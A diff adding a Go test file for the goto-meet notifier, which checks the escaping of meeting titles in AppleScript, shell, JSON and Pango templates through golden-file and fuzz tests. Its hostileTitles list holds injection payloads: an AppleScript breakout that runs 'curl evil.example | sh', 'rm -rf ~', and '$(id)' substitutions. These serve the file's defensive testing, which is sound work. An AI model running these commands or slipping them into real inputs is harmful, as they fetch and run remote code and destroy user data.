@@ -0,0 +1,277 @@
+package ui
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"flag"
+	"fmt"
+	"html"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"github.com/KarelKubat/goto-meet/config"
+)
+
+var updateFlag = flag.Bool("update", false, "update golden files in testdata/")
+
+// hostileTitles are meeting titles that try to break out of their context.
+var hostileTitles = []string{
+	`Weekly sync`,
+	`Karel's 1:1`,
+	`"); do shell script "curl evil.example | sh"; ("`,
+	`" & (do shell script "id") & "`,
+	`\" & (do shell script \"id\") & \"`,
+	"line1\"\nreturn \"Join",
+	`<b>bold</b> & <a href="https://evil.example">click</a>`,
+	`'; rm -rf ~ #`,
+	"$(id) `id` ${HOME}",
+	`{"text": "injected"}`,
+	`{{.JoinLink}}`,
+	"tab\there \x1b[31mred\x1b[0m",
+}
+
+func TestEscapeTemplate(t *testing.T) {
+	for _, test := range []struct {
+		context string
+		tpl     string
+		want    string
+	}{
+		{context: EscapeNone, tpl: `{{.Title}}`, want: `a"b<c>'d`},
+		{context: EscapeAppleScript, tpl: `"{{.Title}}"`, want: `"a\"b<c>'d"`},
+		{context: EscapeShell, tpl: `echo {{.Title}}`, want: `echo 'a"b<c>'\''d'`},
+		{context: EscapeJSON, tpl: `{"t": {{.Title}}}`, want: `{"t": "a\"b\u003cc\u003e'd"}`},
+		{context: EscapePango, tpl: `<b>{{.Title}}</b>`, want: `<b>a&quot;b&lt;c&gt;&apos;d</b>`},
+		// Explicit escapers aren't doubled
+		{context: EscapePango, tpl: `{{.Title | pango}}`, want: `a&quot;b&lt;c&gt;&apos;d`},
+		// Other functions are escaped
+		{context: EscapePango, tpl: `{{.Title | truncate 3}}`, want: `a&quot;…`},
+		// Nested actions are escaped, conditions and declarations are left alone
+		{context: EscapePango, tpl: `{{$t := .Title}}{{if $t}}{{$t}}{{else}}-{{end}}`, want: `a&quot;b&lt;c&gt;&apos;d`},
+		{context: EscapePango, tpl: `{{with .Title}}{{.}}{{end}}`, want: `a&quot;b&lt;c&gt;&apos;d`},
+		{context: EscapePango, tpl: `{{range .List}}[{{.}}]{{end}}`, want: `[&lt;]`},
+		// Sub-templates are escaped
+		{context: EscapePango, tpl: `{{define "t"}}{{.}}{{end}}{{template "t" .Title}}`, want: `a&quot;b&lt;c&gt;&apos;d`},
+	} {
+		tpl, err := newTemplate("test", test.context, test.tpl)
+		if err != nil {
+			t.Fatalf("newTemplate(_, %q, %q) = _,%v, require nil error", test.context, test.tpl, err)
+		}
+		buf := new(bytes.Buffer)
+		if err := tpl.Execute(buf, map[string]interface{}{
+			"Title": `a"b<c>'d`,
+			"List":  []string{"<"},
+		}); err != nil {
+			t.Fatalf("%v: %q: Execute() = %v, require nil error", test.context, test.tpl, err)
+		}
+		if buf.String() != test.want {
+			t.Errorf("%v: %q expands to %q, want %q", test.context, test.tpl, buf.String(), test.want)
+		}
+	}
+
+	if _, err := newTemplate("test", "klingon", "{{.Title}}"); err == nil {
+		t.Errorf("newTemplate() with an unknown context = _,nil, want error")
+	}
+}
+
+// TestEscapeGolden renders hostile titles and links with all built-in command backends, and with
+// user-defined ones in each context. The output must match testdata/escape.golden; run with
+// -update to regenerate it, and review the differences.
+func TestEscapeGolden(t *testing.T) {
+	// Capture the arguments and stdin of each command.
+	dir := t.TempDir()
+	capture := filepath.Join(dir, "capture")
+	for _, name := range []string{"osascript", "zenity", "kdialog", "yad", "custom"} {
+		script := fmt.Sprintf("#!/bin/sh\nfor a in \"$@\"; do printf 'arg: %%s\\n' \"$a\"; done >> %s\nsed 's/^/stdin: /' >> %s\necho >> %s\n",
+			capture, capture, capture)
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(script), 0755); err != nil {
+			t.Fatalf("cannot create fake %v: %v", name, err)
+		}
+	}
+	t.Setenv("PATH", dir+string(os.PathListSeparator)+os.Getenv("PATH"))
+
+	cfg := &config.Config{}
+	for _, context := range []string{EscapeAppleScript, EscapeShell, EscapeJSON, EscapePango} {
+		cfg.Notifiers = append(cfg.Notifiers, &config.Notifier{
+			Name:     "custom_" + context,
+			Command:  []string{"custom", "{{.Title}}"},
+			Input:    config.InputStdin,
+			Template: `title={{.Title}} join={{.JoinLink}}`,
+			Escape:   context,
+		})
+	}
+	names := []string{"macos_osascript", "zenity", "kdialog", "yad"}
+	for _, n := range cfg.Notifiers {
+		names = append(names, n.Name)
+	}
+
+	golden := new(bytes.Buffer)
+	for _, name := range names {
+		b, err := newBackend(name, &Opts{Config: cfg})
+		if err != nil {
+			t.Fatalf("newBackend(%q) = _,%v, require nil error", name, err)
+		}
+		for _, title := range hostileTitles {
+			os.Remove(capture)
+			// Fake commands output nothing, which is an error for some backends; only the
+			// rendering matters here.
+			b.Show(context.Background(), Notification{
+				Title:    title,
+				JoinLink: `https://meet.example/abc?x="1"&y='2'`,
+			})
+			out, err := os.ReadFile(capture)
+			if err != nil {
+				t.Fatalf("%v: cannot read back capture: %v", name, err)
+			}
+			fmt.Fprintf(golden, "=== %v %q\n%s", name, title, out)
+		}
+	}
+
+	goldenFile := filepath.Join("testdata", "escape.golden")
+	if *updateFlag {
+		if err := os.WriteFile(goldenFile, golden.Bytes(), 0644); err != nil {
+			t.Fatalf("cannot update %v: %v", goldenFile, err)
+		}
+	}
+	want, err := os.ReadFile(goldenFile)
+	if err != nil {
+		t.Fatalf("cannot read %v: %v", goldenFile, err)
+	}
+	if !bytes.Equal(golden.Bytes(), want) {
+		t.Errorf("rendered output differs from %v, run with -update and review the differences:\n%s", goldenFile, golden.String())
+	}
+}
+
+// appleScriptLiteral is a helper to lex an AppleScript string literal at the start of `s`, which
+// must start with a double quote. It returns the value of the literal and the remainder of `s`.
+func appleScriptLiteral(s string) (string, string, bool) {
+	if !strings.HasPrefix(s, `"`) {
+		return "", "", false
+	}
+	val := []rune{}
+	escaped := false
+	for i, r := range s[1:] {
+		switch {
+		case escaped:
+			val = append(val, r)
+			escaped = false
+		case r == '\\':
+			escaped = true
+		case r == '"':
+			return string(val), s[i+2:], true
+		default:
+			val = append(val, r)
+		}
+	}
+	return "", "", false
+}
+
+// shellWord is a helper to lex `s` as one shell word that only consists of single-quoted strings
+// and escaped characters, as shellQuote produces. It returns the value of the word.
+func shellWord(s string) (string, bool) {
+	val := []rune{}
+	quoted, escaped := false, false
+	for _, r := range s {
+		switch {
+		case escaped:
+			val = append(val, r)
+			escaped = false
+		case quoted && r == '\'':
+			quoted = false
+		case quoted:
+			val = append(val, r)
+		case r == '\'':
+			quoted = true
+		case r == '\\':
+			escaped = true
+		default:
+			// Anything unquoted could be interpreted by the shell.
+			return "", false
+		}
+	}
+	return string(val), !quoted && !escaped
+}
+
+func FuzzAppleScript(f *testing.F) {
+	for _, title := range hostileTitles {
+		f.Add(title)
+	}
+	prefix := `display dialog (`
+	f.Fuzz(func(t *testing.T, title string) {
+		if !utf8.ValidString(title) {
+			t.Skip()
+		}
+		buf := new(bytes.Buffer)
+		if err := osascriptTpl.Execute(buf, Notification{Title: title, VisibilitySec: 10}); err != nil {
+			t.Fatalf("Execute() = %v, require nil error", err)
+		}
+		script := buf.String()
+		i := strings.Index(script, prefix)
+		if i < 0 {
+			t.Fatalf("script %q lacks %q", script, prefix)
+		}
+		val, rest, ok := appleScriptLiteral(script[i+len(prefix):])
+		if !ok {
+			t.Fatalf("script %q has no terminated string literal", script)
+		}
+		if val != title {
+			t.Errorf("string literal in script %q = %q, want %q", script, val, title)
+		}
+		if !strings.HasPrefix(rest, `) buttons {"Skip", "More…", "Join"} default button "Join" giving up after 10`) {
+			t.Errorf("script %q continues with %q after the title", script, rest)
+		}
+	})
+}
+
+func FuzzShellQuote(f *testing.F) {
+	for _, title := range hostileTitles {
+		f.Add(title)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		if !utf8.ValidString(s) {
+			t.Skip()
+		}
+		q := shellQuote(s)
+		val, ok := shellWord(q)
+		if !ok || val != s {
+			t.Errorf("shellQuote(%q) = %q, which is the shell word %q (ok: %v)", s, q, val, ok)
+		}
+	})
+}
+
+func FuzzPango(f *testing.F) {
+	for _, title := range hostileTitles {
+		f.Add(title)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		e := escapePango(s)
+		if strings.ContainsAny(e, `<>"'`) {
+			t.Errorf("escapePango(%q) = %q, which contains markup characters", s, e)
+		}
+		if u := html.UnescapeString(e); u != s {
+			t.Errorf("escapePango(%q) = %q, which unescapes to %q", s, e, u)
+		}
+	})
+}
+
+func FuzzJSON(f *testing.F) {
+	for _, title := range hostileTitles {
+		f.Add(title)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		if !utf8.ValidString(s) {
+			t.Skip()
+		}
+		e, err := escapeJSON(s)
+		if err != nil {
+			t.Fatalf("escapeJSON(%q) = _,%v, require nil error", s, err)
+		}
+		var u string
+		if err := json.Unmarshal([]byte(e), &u); err != nil || u != s {
+			t.Errorf("escapeJSON(%q) = %q, which decodes to %q (error: %v)", s, e, u, err)
+		}
+	})
+}